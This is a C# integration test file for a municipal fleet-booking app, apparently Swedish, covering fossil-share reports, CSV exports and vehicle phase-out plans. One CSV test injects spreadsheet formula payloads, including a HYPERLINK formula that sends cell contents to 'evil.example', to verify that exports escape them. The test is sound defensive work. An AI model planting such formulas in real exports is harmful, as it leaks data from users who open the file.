using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using FleetPool.Core.Bookings;
using FleetPool.Core.Sustainability;
using FleetPool.Web.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using NodaTime;

namespace FleetPool.Web.Tests;

/// <summary>
/// The fixture fleet: five cars (two electric, HVO100 in maintenance, biogas, petrol) and two bikes, all in Hemtjänst under
/// Kommunstyrelsen. Four of five cars are fossil-independent: 80 %, one car short of the 2025 target.
/// </summary>
public abstract class FossilShareTests<TApp>(TApp app) : ProviderTests<TApp>(app) where TApp : FleetPoolFactory
{
    [Fact]
    public async Task RunNow_Twice_ExactlyOneSnapshotPerUnitWithSameFigures()
    {
        var manager = await App.ClientForAsync(TestData.Fleet);
        var first = await manager.PostAsync("/api/reports/fossil-share/run", null);
        Assert.Equal(HttpStatusCode.OK, first.StatusCode);
        var today = App.Clock.GetCurrentInstant().InZone(NodaTime.DateTimeZoneProviders.Tzdb["Europe/Stockholm"]).Date;
        var yesterday = today.PlusDays(-1);
        var before = await App.QueryAsync(db => db.FleetShareSnapshots.AsNoTracking().Where(s => s.Date >= yesterday)
            .OrderBy(s => s.Date).ThenBy(s => s.Level).ThenBy(s => s.UnitId).ToListAsync());

        Assert.Equal(HttpStatusCode.OK, (await manager.PostAsync("/api/reports/fossil-share/run", null)).StatusCode);
        var after = await App.QueryAsync(db => db.FleetShareSnapshots.AsNoTracking().Where(s => s.Date >= yesterday)
            .OrderBy(s => s.Date).ThenBy(s => s.Level).ThenBy(s => s.UnitId).ToListAsync());

        var units = await App.QueryAsync(db => db.OrgUnits.CountAsync());
        // Yesterday again (the whole day is over now) and today.
        Assert.Equal(2 * (units + 1), after.Count);
        Assert.Equal([yesterday, today], after.Select(s => s.Date).Distinct().Order());
        Assert.Equal(before.Select(s => (s.Date, s.Level, s.UnitId, s.Vehicles, s.FossilIndependentOfficial, s.FossilIndependentInPractice, s.EnergyMj, s.Co2eKg)),
            after.Select(s => (s.Date, s.Level, s.UnitId, s.Vehicles, s.FossilIndependentOfficial, s.FossilIndependentInPractice, s.EnergyMj, s.Co2eKg)));
        var org = after.Single(s => s.Level == Core.Reporting.UnitLevel.Organisation && s.Date == today);
        Assert.Equal((5, 4, 4, 2, 2), (org.Vehicles, org.FossilIndependentOfficial, org.FossilIndependentInPractice, org.ZeroEmission, org.Bikes));
    }

    [Fact]
    public async Task Report_Organisation_TargetPassedUnmetGapAndVehiclesToReplace()
    {
        var report = await (await App.ClientForAsync(TestData.Fleet)).GetFromJsonAsync<JsonElement>("/api/reports/fossil-share");

        Assert.Equal(0.8, report.GetProperty("current").GetProperty("fossilIndependentShare").GetDouble(), 9);
        var target = report.GetProperty("targets")[0];
        Assert.Equal("fossilIndependentShare", target.GetProperty("metric").GetString());
        Assert.False(target.GetProperty("met").GetBoolean());
        Assert.True(target.GetProperty("deadlinePassed").GetBoolean());
        Assert.Equal((20.0, 1), (target.GetProperty("gap").GetDouble(), target.GetProperty("vehiclesToReplace").GetInt32()));
        Assert.Equal(JsonValueKind.Null, target.GetProperty("reachedOn").ValueKind);
        Assert.Equal(3, report.GetProperty("targets").GetArrayLength());
        // Judged at its deadline first: the value on 2025-12-31 (computed from the data, no snapshot was stored that day).
        Assert.Equal("missed", target.GetProperty("verdict").GetString());
        Assert.Equal("official", report.GetProperty("definition").GetString());
        var atDeadline = target.GetProperty("atDeadline");
        Assert.Equal(("2025-12-31", 0.8, 1), (atDeadline.GetProperty("date").GetString(), atDeadline.GetProperty("value").GetDouble(), atDeadline.GetProperty("vehiclesShort").GetInt32()));
        Assert.Equal(20.0, target.GetProperty("gapAtDeadline").GetDouble());
        // No snapshot within a month of a year ago: no data, not zeros.
        Assert.Equal(JsonValueKind.Null, report.GetProperty("yearBefore").ValueKind);
    }

    [Fact]
    public async Task Report_ToInTheFuture_400NamingTo()
    {
        var manager = await App.ClientForAsync(TestData.Fleet);

        await (await manager.GetAsync("/api/reports/fossil-share?to=2030-01-01")).AssertProblemAsync(HttpStatusCode.BadRequest, "to");
        await (await manager.GetAsync("/api/exports/fossil-share.csv?to=2030-01-01")).AssertProblemAsync(HttpStatusCode.BadRequest, "to");
    }

    [Fact]
    public async Task Report_LeadOwnDepartmentAndBoardOtherRefusedStaffRefused()
    {
        var lead = await App.ClientForAsync(TestData.Lead);
        var board = await App.QueryAsync(db => db.OrgUnits.Where(u => u.Id == App.Ids.Department).Select(u => u.ParentId!.Value).SingleAsync());

        var own = await lead.GetFromJsonAsync<JsonElement>("/api/reports/fossil-share");
        Assert.Equal(("department", App.Ids.Department), (own.GetProperty("level").GetString(), own.GetProperty("unitId").GetInt32()));
        Assert.Equal(HttpStatusCode.OK, (await lead.GetAsync($"/api/reports/fossil-share?department={board}")).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await lead.GetAsync($"/api/reports/fossil-share?department={App.Ids.OtherDepartment}")).StatusCode);
        var staff = await App.ClientForAsync(TestData.Staff);
        Assert.Equal(HttpStatusCode.Forbidden, (await staff.GetAsync("/api/reports/fossil-share")).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await staff.PostAsync("/api/reports/fossil-share/run", null)).StatusCode);
    }

    [Fact]
    public async Task RunFor_PastDateAfterDepartmentAndFuelChange_SameFiguresAsThen()
    {
        // A car in the fleet through 2025 only (so today's figures of the other tests stay as they are), in a department of its own.
        var (departmentId, carId, board) = await App.QueryAsync(async db =>
        {
            var board = await db.OrgUnits.Where(u => u.Id == App.Ids.Department).Select(u => u.ParentId!.Value).SingleAsync();
            var unit = new Core.Organisation.OrgUnit { Name = "Historik " + Guid.NewGuid().ToString("N")[..6], Kind = Core.Organisation.OrgUnitKind.Department, ParentId = board };
            db.OrgUnits.Add(unit);
            await db.SaveChangesAsync();
            var car = new Core.Fleet.Vehicle
            {
                Kind = Core.Fleet.VehicleKind.Car, Name = "Historikbil", Registration = "HIS " + Random.Shared.Next(100, 999), SiteId = App.Ids.OpenSite,
                DepartmentId = unit.Id, Fuel = Core.Fleet.FuelType.Diesel, AcquiredOn = new NodaTime.LocalDate(2025, 1, 1),
                RetiredOn = new NodaTime.LocalDate(2025, 12, 31), Status = Core.Fleet.VehicleStatus.Retired,
            };
            db.Vehicles.Add(car);
            await db.SaveChangesAsync();
            return (unit.Id, car.Id, board);
        });
        var job = App.Services.GetRequiredService<Core.Reporting.FleetShareJob>();
        var june = new NodaTime.LocalDate(2025, 6, 30);
        await job.RunForAsync(june);
        var before = await SnapshotAsync(june, departmentId);
        Assert.Equal((1, 0, 0), (before.Vehicles, before.FossilIndependentOfficial, before.FossilIndependentInPractice));

        // Today it is moved to the board itself and recorded as HVO100-approved and running on HVO100.
        await App.QueryAsync(async db =>
        {
            var car = await db.Vehicles.SingleAsync(v => v.Id == carId);
            (car.DepartmentId, car.Fuel, car.ApprovedFuels) = (board, Core.Fleet.FuelType.Hvo100, [Core.Fleet.FuelType.Hvo100]);
            return await db.SaveChangesAsync();
        });
        await job.RunForAsync(june);

        var after = await SnapshotAsync(june, departmentId);
        Assert.Equal((1, 0, 0), (after.Vehicles, after.FossilIndependentOfficial, after.FossilIndependentInPractice));
        var entries = await App.QueryAsync(db => db.VehicleHistory.Where(h => h.VehicleId == carId).OrderBy(h => h.Id).ToListAsync());
        Assert.Equal(2, entries.Count);
        Assert.Null(entries[0].ValidFrom);
        Assert.Equal((board, Core.Fleet.FuelType.Hvo100), (entries[1].DepartmentId, entries[1].Fuel));
    }

    [Fact]
    public async Task Lock_YearOver_JobLeavesItsSnapshotsAsPublishedUntilAdminUnlocks()
    {
        var job = App.Services.GetRequiredService<Core.Reporting.FleetShareJob>();
        var yearEnd = new NodaTime.LocalDate(2024, 12, 31);
        await job.RunForAsync(yearEnd);
        var published = await SnapshotAsync(yearEnd, 0);
        var manager = await App.ClientForAsync(TestData.Fleet);

        Assert.Equal(HttpStatusCode.NoContent, (await manager.PostAsync("/api/reports/fossil-share/locks/2024", null)).StatusCode);
        Assert.Equal(0, await job.RunForAsync(yearEnd));
        Assert.Equal(published.ComputedAt, (await SnapshotAsync(yearEnd, 0)).ComputedAt);
        Assert.Contains(2024, await (await App.ClientForAsync(TestData.Lead)).GetFromJsonAsync<int[]>("/api/reports/fossil-share/locks") ?? []);
        // The current year is not over: refused, naming the field.
        await (await manager.PostAsync("/api/reports/fossil-share/locks/2026", null)).AssertProblemAsync(HttpStatusCode.BadRequest, "year");
        Assert.Equal(HttpStatusCode.Forbidden, (await manager.DeleteAsync("/api/reports/fossil-share/locks/2024")).StatusCode);

        Assert.Equal(HttpStatusCode.NoContent, (await (await App.ClientForAsync(TestData.Admin)).DeleteAsync("/api/reports/fossil-share/locks/2024")).StatusCode);
        Assert.True(await job.RunForAsync(yearEnd) > 0);
    }

    private Task<Core.Reporting.FleetShareSnapshot> SnapshotAsync(NodaTime.LocalDate date, int unitId) =>
        App.QueryAsync(db => db.FleetShareSnapshots.AsNoTracking().SingleAsync(s => s.Date == date && s.UnitId == unitId
            && s.Level != Core.Reporting.UnitLevel.Board));
}

public abstract class CsvExportTests<TApp>(TApp app) : ProviderTests<TApp>(app) where TApp : FleetPoolFactory
{
    [Fact]
    public async Task Bookings_Period_Utf8BomSemicolonsDecimalCommaNoPersonNames()
    {
        var staff = await App.ClientForAsync(TestData.Staff);
        Assert.Equal(HttpStatusCode.Created, (await staff.BookAsync(ApiCalls.Booking(App.Ids.ElectricCar, "2026-04-20T09:00:00+02:00", "2026-04-20T10:00:00+02:00", distanceKm: 12.5))).StatusCode);
        var manager = await App.ClientForAsync(TestData.Fleet);

        var response = await manager.GetAsync("/api/exports/bookings.csv?from=2026-04-20&to=2026-04-20");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        var lines = System.Text.Encoding.UTF8.GetString(bytes[3..]).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.StartsWith("bokning;start;slut;status;fordon", lines[0], StringComparison.Ordinal);
        var row = Assert.Single(lines[1..]).Split(';');
        Assert.Equal(("2026-04-20 09:00", "Kia e-Niro", "Hemtjänst", "12,5", "350"), (row[1], row[4], row[7], row[10], row[11])); // 25 km × 14 g
        Assert.DoesNotContain(TestData.Staff, lines[1], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Trips_Period_OnlyTheReturnedTripWithKmDrivenAndItsCo2e()
    {
        var staff = await App.ClientForAsync(TestData.Staff);
        var driven = await staff.BookAsync(ApiCalls.Booking(App.Ids.ElectricCar, "2026-04-22T09:00:00+02:00", "2026-04-22T11:00:00+02:00", distanceKm: 12.5));
        var id = (await driven.JsonAsync()).GetProperty("id").GetInt32();
        Assert.Equal(HttpStatusCode.Created, (await staff.BookAsync(ApiCalls.Booking(App.Ids.EBike, "2026-04-22T13:00:00+02:00", "2026-04-22T14:00:00+02:00", distanceKm: 3))).StatusCode);
        var odometer = await App.QueryAsync(db => db.Vehicles.Where(v => v.Id == App.Ids.ElectricCar).Select(v => v.LastOdometerKm).SingleAsync());
        try
        {
            App.Clock.Reset(NodaTime.Instant.FromUtc(2026, 4, 22, 7, 0)); // 09:00 local
            var taken = await staff.PostAsJsonAsync($"/api/bookings/{id}/checkout", new { odometerKm = odometer, batteryPercent = 90 });
            Assert.True(taken.StatusCode == HttpStatusCode.OK, await taken.Content.ReadAsStringAsync());
            App.Clock.Reset(NodaTime.Instant.FromUtc(2026, 4, 22, 8, 30));
            var back = await staff.PostAsJsonAsync($"/api/bookings/{id}/checkin", new { odometerKm = odometer + 27, batteryPercent = 60 });
            Assert.True(back.StatusCode == HttpStatusCode.OK, await back.Content.ReadAsStringAsync());
        }
        finally
        {
            App.Clock.Reset(FleetPoolFactory.Monday8);
        }
        var manager = await App.ClientForAsync(TestData.Fleet);

        var trips = ApiCalls.CsvRows(await manager.GetStringAsync("/api/exports/trips.csv?from=2026-04-22&to=2026-04-22"));
        var bookings = ApiCalls.CsvRows(await manager.GetStringAsync("/api/exports/bookings.csv?from=2026-04-22&to=2026-04-22"));

        Assert.Equal(trips[0], bookings[0]); // the same columns
        Assert.Equal(2, bookings.Count - 1); // the e-bike not yet taken is a booking, not a trip
        var trip = Assert.Single(trips[1..]);
        Assert.Equal((id.ToString(System.Globalization.CultureInfo.InvariantCulture), "2026-04-22 09:00", "Returned", "Hemtjänst", "12,5", "27", "378"),
            (trip[0], trip[1], trip[3], trip[7], trip[10], trip[12], trip[13])); // 27 km read off the odometer × 14 g/km
        Assert.DoesNotContain(TestData.Staff, string.Join(";", trip), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("=2+5", 8)]
    [InlineData("-2+3", 9)]
    [InlineData("+1+1", 10)]
    [InlineData("@SUM(1+1)", 11)]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka\")", 12)]
    [InlineData("\t=1+1", 13)]
    public async Task Bookings_FormulaInFreeText_EveryCellEscapedForExcel(string formula, int hour)
    {
        var staff = await App.ClientForAsync(TestData.Staff);
        await App.QueryAsync(db => db.Vehicles.Where(v => v.Id == App.Ids.PetrolCar).ExecuteUpdateAsync(u => u.SetProperty(v => v.Name, formula)));
        var body = ApiCalls.Booking(App.Ids.PetrolCar, $"2026-04-21T{hour:00}:00:00+02:00", $"2026-04-21T{hour:00}:30:00+02:00", purpose: formula,
            distanceKm: 3, carReason: formula, fossilReason: formula);
        Assert.Equal(HttpStatusCode.Created, (await staff.BookAsync(body)).StatusCode);
        var manager = await App.ClientForAsync(TestData.Fleet);

        var csv = System.Text.Encoding.UTF8.GetString(await manager.GetByteArrayAsync("/api/exports/bookings.csv?from=2026-04-21&to=2026-04-21"));

        using var reader = new CsvHelper.CsvReader(new StringReader(csv.TrimStart('\uFEFF')),
            new CsvHelper.Configuration.CsvConfiguration(System.Globalization.CultureInfo.InvariantCulture) { Delimiter = ";" });
        Assert.True(reader.Read() && reader.ReadHeader());
        var rows = new List<List<string>>();
        while (reader.Read())
        {
            rows.Add(Enumerable.Range(0, reader.Parser.Count).Select(i => reader.GetField(i)!).ToList());
        }
        var cells = Assert.Single(rows, r => r[1].EndsWith($"{hour:00}:00", StringComparison.Ordinal));
        foreach (var column in new[] { 4, 9, 14, 15 }) // vehicle, purpose, car reason, fossil reason
        {
            Assert.Equal("'" + formula.Trim(), cells[column].Replace("'\t", "'", StringComparison.Ordinal));
        }
        Assert.DoesNotContain(cells, c => c.Length > 0 && "=+-@\t\r".Contains(c[0], StringComparison.Ordinal));
        await App.QueryAsync(db => db.Vehicles.Where(v => v.Id == App.Ids.PetrolCar).ExecuteUpdateAsync(u => u.SetProperty(v => v.Name, "Toyota Yaris")));
    }

    [Fact]
    public async Task Exports_ByRole_StaffRefusedLeadOwnShareOnly()
    {
        var staff = await App.ClientForAsync(TestData.Staff);
        Assert.Equal(HttpStatusCode.Forbidden, (await staff.GetAsync("/api/exports/trips.csv?from=2026-01-01&to=2026-03-01")).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await staff.GetAsync("/api/exports/fossil-share.csv")).StatusCode);
        var lead = await App.ClientForAsync(TestData.Lead);
        var share = await lead.GetAsync("/api/exports/fossil-share.csv");
        Assert.Equal(HttpStatusCode.OK, share.StatusCode);
        Assert.Contains("Hemtjänst;5;80;", System.Text.Encoding.UTF8.GetString(await share.Content.ReadAsByteArrayAsync()), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.Forbidden, (await lead.GetAsync("/api/exports/bookings.csv?from=2026-01-01&to=2026-03-01")).StatusCode);
        var manager = await App.ClientForAsync(TestData.Fleet);
        await (await manager.GetAsync("/api/exports/trips.csv?from=2026-01-01")).AssertProblemAsync(HttpStatusCode.BadRequest, "to");
    }

    [Fact]
    public async Task Exports_FromPagesWithSignInCookie_DownloadOrLogin()
    {
        var browser = await BrowserLikeClient.SignedInAsync(App, TestData.Fleet);
        var download = await browser.GetAsync("/exports/trips.csv?from=2026-01-01&to=2026-03-31");
        Assert.Equal(HttpStatusCode.OK, download.StatusCode);
        Assert.Equal("resor.csv", download.Content.Headers.ContentDisposition!.FileName);
        var anonymous = await BrowserLikeClient.Anonymous(App).GetAsync("/exports/trips.csv?from=2026-01-01&to=2026-03-31");
        Assert.Equal(HttpStatusCode.Redirect, anonymous.StatusCode);
    }
}

public abstract class PhaseOutApiTests<TApp>(TApp app) : ProviderTests<TApp>(app) where TApp : FleetPoolFactory
{
    [Fact]
    public async Task Plan_ReplacePetrolWithElectric_ProjectionReachesTargetAtThatMonthEnd()
    {
        var manager = await App.ClientForAsync(TestData.Fleet);
        var before = await manager.GetFromJsonAsync<JsonElement>("/api/reports/phase-out");
        var candidate = Assert.Single(before.GetProperty("candidates").EnumerateArray());
        Assert.Equal(App.Ids.PetrolCar, candidate.GetProperty("vehicleId").GetInt32());
        Assert.Equal((1.0, 1.0), (candidate.GetProperty("shareIfReplaced").GetDouble(), candidate.GetProperty("shareIfRemoved").GetDouble())); // 5/5 and 4/4
        Assert.Equal(JsonValueKind.Null, before.GetProperty("reachesTargetOn").ValueKind);

        var plan = await manager.PutAsJsonAsync($"/api/reports/phase-out/{App.Ids.PetrolCar}", new { plannedRetirementOn = "2026-06-15", replacementFuel = "electric" });
        Assert.Equal(HttpStatusCode.NoContent, plan.StatusCode);

        var after = await manager.GetFromJsonAsync<JsonElement>("/api/reports/phase-out");
        Assert.Equal("2026-06-30", after.GetProperty("reachesTargetOn").GetString());
        var may = after.GetProperty("projection").EnumerateArray().Single(m => m.GetProperty("month").GetString() == "2026-05-31");
        Assert.Equal(0.8, may.GetProperty("share").GetDouble(), 9);
        var share = await manager.GetFromJsonAsync<JsonElement>("/api/reports/fossil-share");
        Assert.Equal("2026-06-30", share.GetProperty("targets")[0].GetProperty("projectedOn").GetString());
    }

    [Fact]
    public async Task Candidates_SecondFossilCar_ShareIfRemovedAndIfReplacedWorkedOutApart()
    {
        var manager = await App.ClientForAsync(TestData.Fleet);
        var created = await manager.PostAsJsonAsync("/api/vehicles", new
        {
            kind = "car", name = "Passat (utfasningstest)", registration = "UTF 001", siteId = App.Ids.OpenSite, departmentId = App.Ids.Department,
            fuel = "diesel", seats = 5, rangeKm = 900,
        });
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var diesel = (await created.JsonAsync()).GetProperty("id").GetInt32();
        try
        {
            var plan = await manager.GetFromJsonAsync<JsonElement>("/api/reports/phase-out");
            var petrol = plan.GetProperty("candidates").EnumerateArray().Single(c => c.GetProperty("vehicleId").GetInt32() == App.Ids.PetrolCar);

            // Six cars, four fossil-independent: without the petrol car 4 of 5, with it replaced by an electric one 5 of 6.
            Assert.Equal(4 / 5.0, petrol.GetProperty("shareIfRemoved").GetDouble(), 9);
            Assert.Equal(5 / 6.0, petrol.GetProperty("shareIfReplaced").GetDouble(), 9);
            Assert.Equal(4 / 6.0, plan.GetProperty("currentShare").GetDouble(), 9);
        }
        finally
        {
            await App.QueryAsync(db => db.Vehicles.Where(v => v.Id == diesel).ExecuteUpdateAsync(u => u.SetProperty(v => v.Status, Core.Fleet.VehicleStatus.Retired)));
        }
    }

    [Fact]
    public async Task Plan_PastDateFossilReplacementOrElectricCarOrStaff_Refused()
    {
        var manager = await App.ClientForAsync(TestData.Fleet);
        await (await manager.PutAsJsonAsync($"/api/reports/phase-out/{App.Ids.PetrolCar}", new { plannedRetirementOn = "2026-01-01" }))
            .AssertProblemAsync(HttpStatusCode.BadRequest, "plannedRetirementOn");
        await (await manager.PutAsJsonAsync($"/api/reports/phase-out/{App.Ids.PetrolCar}", new { plannedRetirementOn = "2026-09-01", replacementFuel = "diesel" }))
            .AssertProblemAsync(HttpStatusCode.BadRequest, "replacementFuel");
        await (await manager.PutAsJsonAsync($"/api/reports/phase-out/{App.Ids.ElectricCar}", new { plannedRetirementOn = "2026-09-01" }))
            .AssertProblemAsync(HttpStatusCode.UnprocessableEntity, "vehicleId");
        var staff = await App.ClientForAsync(TestData.Staff);
        Assert.Equal(HttpStatusCode.Forbidden, (await staff.GetAsync("/api/reports/phase-out")).StatusCode);
    }

    [Fact]
    public async Task Plan_TodayOrReplacementWithoutDateOrUnknownVehicle_RefusedAndTomorrowPlanned()
    {
        var manager = await App.ClientForAsync(TestData.Fleet); // today is 2026-03-16
        await (await manager.PutAsJsonAsync($"/api/reports/phase-out/{App.Ids.PetrolCar}", new { plannedRetirementOn = "2026-03-16" }))
            .AssertProblemAsync(HttpStatusCode.BadRequest, "plannedRetirementOn");
        await (await manager.PutAsJsonAsync($"/api/reports/phase-out/{App.Ids.PetrolCar}", new { replacementFuel = "electric" }))
            .AssertProblemAsync(HttpStatusCode.BadRequest, "plannedRetirementOn");
        var unknown = await (await manager.PutAsJsonAsync("/api/reports/phase-out/999999", new { plannedRetirementOn = "2026-09-01" }))
            .AssertProblemAsync(HttpStatusCode.NotFound);
        Assert.Equal("Vehicle not found.", unknown.GetProperty("title").GetString());
        try
        {
            Assert.Equal(HttpStatusCode.NoContent,
                (await manager.PutAsJsonAsync($"/api/reports/phase-out/{App.Ids.PetrolCar}", new { plannedRetirementOn = "2026-03-17", replacementFuel = "hvo100" })).StatusCode);
            var planned = (await manager.GetFromJsonAsync<JsonElement>("/api/reports/phase-out")).GetProperty("candidates").EnumerateArray()
                .Single(c => c.GetProperty("vehicleId").GetInt32() == App.Ids.PetrolCar);
            Assert.Equal(("2026-03-17", "hvo100"), (planned.GetProperty("plannedRetirementOn").GetString(), planned.GetProperty("replacementFuel").GetString()));
        }
        finally
        {
            Assert.Equal(HttpStatusCode.NoContent,
                (await manager.PutAsJsonAsync($"/api/reports/phase-out/{App.Ids.PetrolCar}", new { plannedRetirementOn = (string?)null })).StatusCode);
        }
    }

    // The year's trips and km count from the start of the day a year ago (Stockholm); utilisation counts a trip's hours
    // within the last 90 days only, over the working hours in them.
    [Fact]
    public async Task Candidates_TripsAtTheYearAndQuarterEdges_CountedWithinTheirWindows()
    {
        var manager = await App.ClientForAsync(TestData.Fleet);
        async Task<JsonElement> PetrolAsync() => (await manager.GetFromJsonAsync<JsonElement>("/api/reports/phase-out")).GetProperty("candidates")
            .EnumerateArray().Single(c => c.GetProperty("vehicleId").GetInt32() == App.Ids.PetrolCar);
        var before = await PetrolAsync();
        var yearAgo = Instant.FromUtc(2025, 3, 15, 23, 0); // 2025-03-16 00:00 in Stockholm
        var quarterAgo = FleetPoolFactory.Monday8 - Duration.FromDays(90);
        Booking Trip(Instant start, Instant returned, double km) => new()
        {
            VehicleId = App.Ids.PetrolCar, Start = start, End = returned, BlockedUntil = returned, Status = BookingStatus.Returned, ReturnedAt = returned,
            ActualKm = km, BookerId = App.Ids.Staff, Purpose = "utfasning: kant", CostCenterId = 1, DistanceKm = km / 2, CreatedAt = start,
        };
        Booking[] trips =
        [
            Trip(yearAgo - Duration.FromHours(3), yearAgo - Duration.FromSeconds(1), 1000),                  // back a second before the year: not counted
            Trip(yearAgo - Duration.FromSeconds(1), yearAgo, 100),                                           // back at its first instant: counted
            Trip(quarterAgo - Duration.FromHours(50), quarterAgo + Duration.FromHours(120), 40),             // 120 of its 170 h in the quarter
        ];
        await App.QueryAsync(db =>
        {
            db.Bookings.AddRange(trips);
            return db.SaveChangesAsync();
        });
        try
        {
            var after = await PetrolAsync();
            Assert.Equal(before.GetProperty("trips").GetInt32() + 2, after.GetProperty("trips").GetInt32());
            Assert.Equal(before.GetProperty("km").GetDouble() + 140, after.GetProperty("km").GetDouble(), 6);
            Assert.Equal(120 / PhaseOut.WorkingHoursIn90Days, after.GetProperty("utilisation").GetDouble() - before.GetProperty("utilisation").GetDouble(), 2);

            // The CO2e a replacement saves is worked out for the fuel planned, else for the advice's (electric here).
            var petrol = await App.QueryAsync(db => db.Vehicles.SingleAsync(v => v.Id == App.Ids.PetrolCar));
            var km = after.GetProperty("km").GetDouble();
            Assert.Equal("replaceWithElectric", after.GetProperty("advice").GetString());
            Assert.Equal(Math.Round(PhaseOut.SavedKg(petrol, km, Core.Fleet.FuelType.Electric), 1), after.GetProperty("co2eSavedKgIfReplaced").GetDouble(), 6);
            Assert.Equal(HttpStatusCode.NoContent,
                (await manager.PutAsJsonAsync($"/api/reports/phase-out/{App.Ids.PetrolCar}", new { plannedRetirementOn = "2026-09-01", replacementFuel = "hvo100" })).StatusCode);
            var planned = await PetrolAsync();
            Assert.Equal(Math.Round(PhaseOut.SavedKg(petrol, km, Core.Fleet.FuelType.Hvo100), 1), planned.GetProperty("co2eSavedKgIfReplaced").GetDouble(), 6);
            Assert.NotEqual(after.GetProperty("co2eSavedKgIfReplaced").GetDouble(), planned.GetProperty("co2eSavedKgIfReplaced").GetDouble());
        }
        finally
        {
            var ids = trips.Select(t => t.Id).ToList();
            await App.QueryAsync(db => db.Bookings.Where(b => ids.Contains(b.Id)).ExecuteDeleteAsync());
            await manager.PutAsJsonAsync($"/api/reports/phase-out/{App.Ids.PetrolCar}", new { plannedRetirementOn = (string?)null });
        }
    }
}

public sealed class PhaseOutApiTestsOnSqlite(SqliteApp app) : PhaseOutApiTests<SqliteApp>(app);

public sealed class PhaseOutApiTestsOnPostgres(PostgresApp app) : PhaseOutApiTests<PostgresApp>(app);

public sealed class CsvExportTestsOnSqlite(SqliteApp app) : CsvExportTests<SqliteApp>(app);

public sealed class CsvExportTestsOnPostgres(PostgresApp app) : CsvExportTests<PostgresApp>(app);

public sealed class FossilShareTestsOnSqlite(SqliteApp app) : FossilShareTests<SqliteApp>(app);

public sealed class FossilShareTestsOnPostgres(PostgresApp app) : FossilShareTests<PostgresApp>(app);
